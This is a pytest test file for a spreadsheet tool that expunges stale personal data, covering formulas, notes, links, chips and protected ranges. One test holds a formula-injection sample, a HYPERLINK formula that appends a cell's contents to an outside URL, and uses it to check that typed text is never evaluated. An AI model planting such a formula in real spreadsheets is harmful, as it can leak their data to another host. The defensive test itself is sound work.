"""Formulas, notes, links and formats around what is expunged."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from cocsheets.sandbox import Sandbox
from tests.cases.world import DUE, TODAY, Text, book, cells, expunged, type_in
from tests.cli.world import World

KEEP_DATES = '[retention]\non_stale = "expunge"\n'


@pytest.mark.parametrize("formula", ["=EDATE(A{0},24)", "=A{0}+730", "=DATE(YEAR(A{0})+2,4,1)"])
def test_an_expunge_date_that_is_a_formula(sandbox: Sandbox, tmp_path: Path, formula: str) -> None:
    """CS-25: the date is read, the formula stays, what refers to a name follows by itself."""
    rows = {
        2: {"A": "2024-04-01", "J": formula.format(2)},
        3: {"A": "2025-04-01", "J": formula.format(3)},
    }
    world = book(sandbox, tmp_path, rows)
    board = world.spreadsheet.add_worksheet("Board", 5, 5)
    type_in(world.spreadsheet, "Board", {"B2": "=Reports!C2"})
    before = cells(world)
    assert world.run("--as-of", TODAY, "expunge", "--yes").returncode == 0
    assert cells(world) == expunged(before, 2)
    assert cells(world)["Reports"][1][9] == formula.format(2)
    assert board.acell("B2").value == "Expunged"
    sandbox.forget_requests()
    assert world.run("--as-of", "2026-04-03", "expunge", "--yes").returncode == 0
    assert world.writes() == []


def test_names_that_come_from_formulas(sandbox: Sandbox, tmp_path: Path) -> None:
    """A cell's own formula is overwritten; a spilled value leaves its row whole and named."""
    rows = {
        2: {**DUE, "C": '="Ada "&"Fixture"', "D": '=HYPERLINK("mailto:a@example.org","a")'},
        3: {**DUE, "C": "=ARRAYFORMULA(L9:M9)", "D": ""},
        4: {**DUE, "C": "=L9"},
    }
    world = book(sandbox, tmp_path, rows, settings=KEEP_DATES)
    type_in(world.spreadsheet, "Reports", {"L9": "Rik Sample", "M9": "rik@example.net"})
    before = cells(world)
    run = world.run("--as-of", TODAY, "expunge", "--yes")
    assert "C3: left alone: a formula in the cell fills other cells too" in run.stdout
    assert run.returncode == 5
    assert cells(world) == expunged(before, 2, 4)


def test_what_begins_like_a_formula_stays_text(sandbox: Sandbox, tmp_path: Path) -> None:
    """CS-53: nothing that people typed as text is ever evaluated by being put back or written."""
    dangerous = Text('=HYPERLINK("https://example.net/?q="&B2,"click")')
    rows: dict[int, dict[str, str]] = {
        2: {"C": dangerous},
        3: {**DUE, "C": Text("@handle"), "H": Text("=1+1 said @handle")},
        4: {"E": Text("+1 for a ban")},
        5: {**DUE, "C": dangerous, "E": Text("'=A1")},
        6: {"C": Text('Doe, "JJ" Jane\n2nd line'), "D": Text("-")},
    }
    world = book(sandbox, tmp_path, rows, settings=KEEP_DATES)
    before = cells(world)
    sandbox.settings(reparse_replacement=True)
    assert world.run("--as-of", TODAY, "expunge", "--yes").returncode == 0
    after = expunged(before, 3, 5)
    after["Reports"][2][7] = "=1+1 said Expunged"
    assert cells(world) == after
    assert world.records.acell("H3").value == "=1+1 said Expunged"
    assert world.records.acell("C2").value == str(dangerous)


def _at(world: World, row: int, column: int) -> dict[str, int]:
    return {
        "sheetId": world.records.id,
        "startRowIndex": row - 1,
        "endRowIndex": row,
        "startColumnIndex": column,
        "endColumnIndex": column + 1,
    }


def _hang(world: World) -> None:
    """A note, a link and a list on C2, a linked word in E2, a chip in D2; notes that stay."""
    link = {"link": {"uri": "https://example.org/u/ada"}, "bold": True}
    colour = {"red": 1.0}
    listed = [{"userEnteredValue": name} for name in ("Ada Fixture", "Rik Sample")]
    chip = {"personProperties": {"email": "ada@example.org"}}
    runs = [
        {"startIndex": 4, "format": {"link": {"uri": "mailto:ada@example.org"}}},
        {"startIndex": 7, "format": {}},
    ]
    hung: list[tuple[int, int, dict[str, Any]]] = [
        (
            2,
            2,
            {"note": "Ada", "userEnteredFormat": {"textFormat": link, "backgroundColor": colour}},
        ),
        (2, 2, {"dataValidation": {"condition": {"type": "ONE_OF_LIST", "values": listed}}}),
        (2, 3, {"userEnteredValue": {"stringValue": "@"}, "chipRuns": [{"chip": chip}]}),
        (2, 4, {"userEnteredValue": {"stringValue": "see Ada here"}, "textFormatRuns": runs}),
        (2, 7, {"note": "about the outcome"}),
        (3, 2, {"note": "about another row"}),
    ]
    requests = [
        {
            "updateCells": {
                "range": _at(world, row, column),
                "rows": [{"values": [cell]}],
                "fields": ",".join(cell),
            }
        }
        for row, column, cell in hung
    ]
    world.spreadsheet.batch_update({"requests": requests})


def _hanging(world: World) -> list[dict[str, Any]]:
    mask = "note,textFormatRuns,chipRuns,dataValidation,userEnteredFormat"
    wanted: Any = {
        "fields": f"sheets(data.rowData.values({mask}))",
        "ranges": "Reports!A2:J3",
    }
    rows = world.spreadsheet.fetch_sheet_metadata(wanted)["sheets"][0]["data"][0]["rowData"]
    return [cell for row in rows for cell in row["values"]]


@pytest.mark.parametrize("switches", [{}, {"find_replace": "nothing"}, {"find_replace": "shown"}])
def test_what_hangs_on_a_cell_goes_with_it(
    sandbox: Sandbox, tmp_path: Path, switches: dict[str, Any]
) -> None:
    """Notes, links, chips and lists of names go; colours, and what hangs elsewhere, stay."""
    sandbox.settings(**switches)
    world = book(sandbox, tmp_path, {2: {**DUE, "C": "Ada Fixture"}, 3: {}})
    _hang(world)
    before, was = cells(world), _hanging(world)
    assert world.run("--as-of", TODAY, "expunge", "--yes").returncode == 0
    assert cells(world) == expunged(before, 2)
    now = _hanging(world)
    assert "ada" not in str(now).casefold()
    look = now[2]["userEnteredFormat"]
    assert (look["textFormat"], look["backgroundColor"]) == ({"bold": True}, {"red": 1})
    assert now[5:] == was[5:]
    sandbox.forget_requests()
    assert world.run("--as-of", TODAY, "expunge", "--yes").returncode == 0
    assert world.writes() == []


@pytest.mark.parametrize("whole", [True, False])
def test_protected_cells_leave_their_row_whole(
    sandbox: Sandbox, tmp_path: Path, whole: bool
) -> None:
    """What the acting account may not write is named; the other rows are done."""
    world = book(sandbox, tmp_path, {2: DUE, 3: DUE}, settings=KEEP_DATES)
    world.spreadsheet.share("bo@example.org", "user", "writer", notify=False)
    where = {"sheetId": world.records.id} if whole else _at(world, 3, 2)
    protected = {"range": where, "editors": {"users": ["ana@example.org"]}}
    add = {"addProtectedRange": {"protectedRange": protected}}
    world.spreadsheet.batch_update({"requests": [add]})
    before = cells(world)
    run = world.run("--as-of", TODAY, "expunge", "--yes", COCSHEETS_ACT_AS="bo@example.org")
    assert run.returncode == 5
    assert "3: left alone: a protected range" in run.stdout
    assert cells(world) == (before if whole else expunged(before, 2))
